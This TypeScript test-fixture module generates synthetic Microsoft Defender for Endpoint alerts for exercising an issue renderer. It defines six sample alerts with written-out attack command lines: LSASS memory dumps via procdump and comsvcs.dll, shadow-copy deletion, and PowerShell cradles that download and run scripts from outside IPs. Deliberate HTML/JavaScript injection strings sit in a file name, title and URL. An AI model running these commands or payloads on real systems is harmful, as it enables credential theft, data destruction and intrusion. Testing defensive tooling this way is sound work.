// Realistic Microsoft Defender for Endpoint alerts (entity: reference/defender-api.md §2, ids: §5).
//
// Every field of the entity is present, unused ones as null, and every evidence entry carries all
// evidence keys, because that is what the API returns and what the issue renderer must cope with.
import crypto from "node:crypto";
import type { Alert } from "./defender.ts";

export type { Alert };

/** .NET ticks (100 ns since 0001-01-01) at the Unix epoch: MDE alert ids start with creation ticks. */
const EPOCH_TICKS = 621_355_968_000_000_000n;
const TENANT_ID = "8d3c1f0e-2b4a-4c6d-9e8f-0a1b2c3d4e5f";
const MINUTE = 60_000;

const EVIDENCE_KEYS = [
  "entityType",
  "evidenceCreationTime",
  "sha1",
  "sha256",
  "fileName",
  "filePath",
  "processId",
  "processCommandLine",
  "processCreationTime",
  "parentProcessId",
  "parentProcessCreationTime",
  "parentProcessFileName",
  "parentProcessFilePath",
  "ipAddress",
  "url",
  "registryKey",
  "registryHive",
  "registryValueType",
  "registryValue",
  "accountName",
  "domainName",
  "userSid",
  "aadUserId",
  "userPrincipalName",
  "detectionStatus",
] as const;

export type Evidence = Record<(typeof EVIDENCE_KEYS)[number], unknown>;

/** One evidence entry with every key present; the ones that do not apply are null. */
export function makeEvidence(fields: Partial<Evidence> & { entityType: string }): Evidence {
  const entry = Object.fromEntries(EVIDENCE_KEYS.map((k) => [k, null])) as Evidence;
  return { ...entry, ...fields };
}

let sequence = 0;

/** `da<18-digit creation ticks>_<signed integer>`; deterministic with a salt, unique without one. */
export function alertIdFor(created: Date, salt?: string): string {
  // Without a salt a process-wide counter nudges the ticks, so alerts made in the same millisecond differ.
  const bump = salt === undefined ? BigInt(++sequence % 10_000) : 0n;
  const ticks = BigInt(created.getTime()) * 10_000n + EPOCH_TICKS + bump;
  const suffix = crypto.createHash("sha256").update(`${ticks}/${salt ?? sequence}`).digest().readInt32BE(0);
  return `da${ticks}_${suffix}`;
}

/** Defender writes up to 7 fractional digits; keep that shape so clients must parse leniently. */
export function defenderTime(date: Date): string {
  const subMillisecond = String((date.getTime() * 7919) % 10_000).padStart(4, "0");
  return date.toISOString().replace(/Z$/, `${subMillisecond}Z`);
}

function hex(seed: string, length: number): string {
  return crypto.createHash("sha256").update(seed).digest("hex").slice(0, length);
}

function guid(seed: string): string {
  const h = hex(seed, 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}`;
}

function minutesBefore(date: Date, minutes: number): Date {
  return new Date(date.getTime() - minutes * MINUTE);
}

/**
 * A realistic "suspicious LSASS access" alert created a few minutes ago; `overrides` replace any field
 * (give `alertCreationTime` and the id is derived from it).
 */
export function makeAlert(overrides: Partial<Alert> & { id?: string } = {}): Alert {
  const created =
    typeof overrides["alertCreationTime"] === "string" ? new Date(overrides["alertCreationTime"]) : minutesBefore(new Date(), 7);
  const id = overrides.id ?? alertIdFor(created);
  const machineId = hex(`machine/${id}`, 40);
  const base: Alert = {
    id,
    incidentId: 40_000 + (parseInt(hex(id, 6), 16) % 9_000),
    investigationId: 90_000 + (parseInt(hex(`inv/${id}`, 6), 16) % 9_000),
    investigationState: "PendingApproval",
    assignedTo: null,
    severity: "Medium",
    status: "New",
    classification: null,
    determination: null,
    detectionSource: "WindowsDefenderAtp",
    detectorId: guid(`detector/lsass`),
    category: "CredentialAccess",
    threatFamilyName: null,
    threatName: null,
    title: "Suspicious access to LSASS service",
    description:
      "A process accessed the memory of the Local Security Authority Subsystem Service (lsass.exe) in a way " +
      "typical of credential theft tools such as Mimikatz or ProcDump.",
    recommendedAction:
      "1. Review the process tree and the account that ran the tool.\n2. Reset the credentials of accounts that " +
      "signed in to this device.\n3. Isolate the device if the activity is not expected.",
    alertCreationTime: defenderTime(created),
    firstEventTime: defenderTime(minutesBefore(created, 3)),
    lastEventTime: defenderTime(minutesBefore(created, 2)),
    lastUpdateTime: defenderTime(new Date(created.getTime() + 2_100)),
    resolvedTime: null,
    machineId,
    computerDnsName: "ws-finance-07.corp.contoso.com",
    rbacGroupName: "Finance",
    aadTenantId: TENANT_ID,
    mitreTechniques: ["T1003", "T1003.001"],
    relatedUser: { userName: "jdoe", domainName: "CORP" },
    comments: [],
    evidence: [
      makeEvidence({
        entityType: "Process",
        evidenceCreationTime: defenderTime(created),
        sha1: "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3",
        sha256: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
        fileName: "procdump64.exe",
        filePath: "C:\\Users\\jdoe\\Downloads",
        processId: 6120,
        processCommandLine: "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\out.dmp",
        processCreationTime: defenderTime(minutesBefore(created, 3)),
        parentProcessId: 4416,
        parentProcessCreationTime: defenderTime(minutesBefore(created, 9)),
        parentProcessFileName: "cmd.exe",
        parentProcessFilePath: "C:\\Windows\\System32",
        detectionStatus: "Detected",
      }),
      makeEvidence({
        entityType: "User",
        evidenceCreationTime: defenderTime(created),
        accountName: "jdoe",
        domainName: "CORP",
        userSid: "S-1-5-21-1004336348-1177238915-682003330-1112",
        aadUserId: "5b1f2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
        userPrincipalName: "jdoe@contoso.com",
      }),
    ],
  };
  return { ...base, ...overrides, id };
}

interface Spec {
  minutesAgo: number;
  fields: Partial<Alert>;
}

/** Six varied alerts for a demo, created over the last ~20 hours; ids and times follow from `now`. */
export function sampleAlerts(now: Date = new Date()): Alert[] {
  return SPECS.map((spec, index) => {
    const created = minutesBefore(now, spec.minutesAgo);
    const evidence = (spec.fields["evidence"] as Array<Partial<Evidence> & { entityType: string }> | undefined) ?? [];
    return makeAlert({
      ...spec.fields,
      id: alertIdFor(created, `sample-${index}`),
      detectorId: guid(`detector/${String(spec.fields["title"])}`),
      alertCreationTime: defenderTime(created),
      firstEventTime: defenderTime(minutesBefore(created, 4 + index)),
      lastEventTime: defenderTime(minutesBefore(created, 1)),
      lastUpdateTime: defenderTime(new Date(created.getTime() + (spec.fields["status"] === "InProgress" ? 95 * MINUTE : 3_000))),
      evidence: evidence.map((e) => makeEvidence({ evidenceCreationTime: defenderTime(created), ...e })),
    });
  });
}

const HOSTILE_FILE = "Invoice_4471 @security-team <img src=x onerror=alert(1)>.docm";

const SPECS: Spec[] = [
  {
    minutesAgo: 19 * 60 + 12,
    fields: {
      severity: "High",
      category: "CredentialAccess",
      detectionSource: "WindowsDefenderAtp",
      title: "Possible credential theft: LSASS memory dumped with comsvcs.dll",
      description:
        "rundll32.exe loaded comsvcs.dll and called MiniDump on the lsass.exe process. Attackers dump LSASS " +
        "memory to extract password hashes and Kerberos tickets.",
      recommendedAction: "Isolate the device, reset the passwords of every account that signed in to it since the first event, and look for lateral movement from it.",
      computerDnsName: "ws-finance-07.corp.contoso.com",
      rbacGroupName: "Finance",
      mitreTechniques: ["T1003", "T1003.001", "T1218.011"],
      relatedUser: { userName: "jdoe", domainName: "CORP" },
      investigationState: "PendingApproval",
      evidence: [
        {
          entityType: "Process",
          fileName: "rundll32.exe",
          filePath: "C:\\Windows\\System32",
          sha1: "b5dd4a0a5c3f6b1e0d2a5f8f1c86f4a2e1f7b3c9",
          processId: 7344,
          processCommandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\lsass.dmp full",
          parentProcessId: 5120,
          parentProcessFileName: "powershell.exe",
          detectionStatus: "Detected",
        },
        { entityType: "User", accountName: "jdoe", domainName: "CORP", userPrincipalName: "jdoe@contoso.com" },
      ],
    },
  },
  {
    minutesAgo: 14 * 60 + 3,
    fields: {
      severity: "High",
      category: "Ransomware",
      detectionSource: "WindowsDefenderAv",
      threatFamilyName: "LockBit",
      threatName: "Ransom:Win32/LockBit.RPA!MTB",
      title: "Ransomware behavior detected in the file system",
      description:
        "A process renamed and rewrote hundreds of documents in quick succession with the extension .lockbit and " +
        "deleted volume shadow copies, which is typical of ransomware encrypting files.",
      recommendedAction: "Isolate the server immediately, disable the svc-backup account, and restore affected shares from offline backups after the payload is removed.",
      computerDnsName: "fs-eng-02.corp.contoso.com",
      rbacGroupName: "Servers - Engineering",
      mitreTechniques: ["T1486", "T1490"],
      relatedUser: { userName: "svc-backup", domainName: "CORP" },
      investigationState: "Running",
      evidence: [
        {
          entityType: "Process",
          fileName: "vssadmin.exe",
          filePath: "C:\\Windows\\System32",
          processId: 2208,
          processCommandLine: "vssadmin.exe delete shadows /all /quiet",
          parentProcessFileName: "svch0st.exe",
          parentProcessFilePath: "C:\\Users\\Public\\Libraries",
          detectionStatus: "Blocked",
        },
        {
          entityType: "File",
          fileName: "Q3-forecast.xlsx.lockbit",
          filePath: "D:\\Shares\\Engineering\\Planning",
          sha256: "7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730",
          detectionStatus: "Detected",
        },
      ],
    },
  },
  {
    minutesAgo: 9 * 60 + 40,
    fields: {
      severity: "Medium",
      category: "Execution",
      detectionSource: "CustomDetection",
      title: "PowerShell download cradle from a non-corporate host",
      description: "PowerShell downloaded a script from the internet and ran it in memory (Invoke-Expression).",
      recommendedAction: "Block 198.51.100.23 at the proxy, collect the downloaded script from the device timeline, and check other devices for the same command line.",
      computerDnsName: "ws-sales-22.corp.contoso.com",
      rbacGroupName: "Sales",
      mitreTechniques: ["T1059.001", "T1105"],
      relatedUser: { userName: "mgarcia", domainName: "CORP" },
      investigationState: "PendingResource",
      evidence: [
        {
          entityType: "Process",
          fileName: "powershell.exe",
          filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
          processId: 9012,
          processCommandLine:
            "powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\"",
          parentProcessFileName: "explorer.exe",
          detectionStatus: "Detected",
        },
        { entityType: "Url", url: "http://198.51.100.23/a.ps1" },
        { entityType: "Ip", ipAddress: "198.51.100.23" },
      ],
    },
  },
  {
    // Attacker-controlled text: the file name and command line come straight from the phishing mail.
    minutesAgo: 5 * 60 + 18,
    fields: {
      severity: "Medium",
      category: "InitialAccess",
      detectionSource: "WindowsDefenderAtp",
      title: `Suspicious macro in '${HOSTILE_FILE}' launched PowerShell | WINWORD.EXE`,
      description:
        `Microsoft Word opened '${HOSTILE_FILE}' from an e-mail attachment and a macro started PowerShell, ` +
        "which contacted [a payment portal](javascript:alert(document.cookie)).",
      recommendedAction: "Purge the e-mail from all mailboxes, block the sender and 203.0.113.7, and run a full scan on the device.",
      computerDnsName: "ws-hr-03.corp.contoso.com",
      rbacGroupName: "HR",
      mitreTechniques: ["T1566.001", "T1204.002", "T1059.001"],
      relatedUser: { userName: "akim", domainName: "CORP" },
      investigationState: "PartiallyInvestigated",
      evidence: [
        {
          entityType: "File",
          fileName: HOSTILE_FILE,
          filePath: "C:\\Users\\akim\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1ZP8W3K",
          sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
          detectionStatus: "Detected",
        },
        {
          entityType: "Process",
          fileName: "powershell.exe",
          filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
          processId: 3316,
          processCommandLine:
            "powershell.exe -nop -c \"iwr http://203.0.113.7/s.ps1 -UseB | iex; Write-Host `@security-team` " +
            "'<img src=x onerror=alert(1)>' | Out-Null\"",
          parentProcessFileName: "WINWORD.EXE",
          parentProcessFilePath: "C:\\Program Files\\Microsoft Office\\root\\Office16",
          detectionStatus: "Detected",
        },
        { entityType: "Url", url: "javascript:alert(document.cookie)//http://203.0.113.7/s.ps1" },
        { entityType: "User", accountName: "akim", domainName: "CORP", userPrincipalName: "akim@contoso.com" },
      ],
    },
  },
  {
    minutesAgo: 2 * 60 + 5,
    fields: {
      severity: "Informational",
      category: "Execution",
      detectionSource: "WindowsDefenderAtp",
      title: "[Test Alert] Suspicious Powershell commandline",
      description: "The detection test script was run on this device to verify that it is onboarded.",
      recommendedAction: "No action needed if this test was run on purpose: classify it as security testing and resolve it.",
      computerDnsName: "lab-onboard-01.corp.contoso.com",
      rbacGroupName: "Lab",
      mitreTechniques: ["T1059.001"],
      relatedUser: { userName: "itadmin", domainName: "CORP" },
      investigationState: "Benign",
      evidence: [
        {
          entityType: "Process",
          fileName: "powershell.exe",
          filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
          processId: 5544,
          processCommandLine:
            "powershell.exe -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden $ErrorActionPreference= 'silentlycontinue';" +
            "(New-Object System.Net.WebClient).DownloadFile('http://127.0.0.1/1.exe', 'C:\\test-MDATP-test\\invoice.exe');" +
            "Start-Process 'C:\\test-MDATP-test\\invoice.exe'",
          parentProcessFileName: "cmd.exe",
          detectionStatus: "Detected",
        },
      ],
    },
  },
  {
    minutesAgo: 25,
    fields: {
      severity: "Low",
      status: "InProgress",
      assignedTo: "soc-analyst@contoso.com",
      category: "UnwantedSoftware",
      detectionSource: "WindowsDefenderAv",
      threatFamilyName: "BundleInstaller",
      threatName: "PUA:Win32/BundleInstaller",
      title: "'BundleInstaller' unwanted software was detected",
      description: "Potentially unwanted software was found and blocked. It bundles adware with a free PDF converter.",
      recommendedAction: "Remove the installer and tell the user about the software policy; no further investigation is needed.",
      computerDnsName: "ws-mkt-11.corp.contoso.com",
      rbacGroupName: "Marketing",
      mitreTechniques: [],
      relatedUser: { userName: "lchen", domainName: "CORP" },
      investigationState: "SuccessfullyRemediated",
      evidence: [
        {
          entityType: "File",
          fileName: "FreePDFConverterSetup.exe",
          filePath: "C:\\Users\\lchen\\Downloads",
          sha1: "3f786850e387550fdab836ed7e6dc881de23001b",
          detectionStatus: "Prevented",
        },
      ],
    },
  },
];
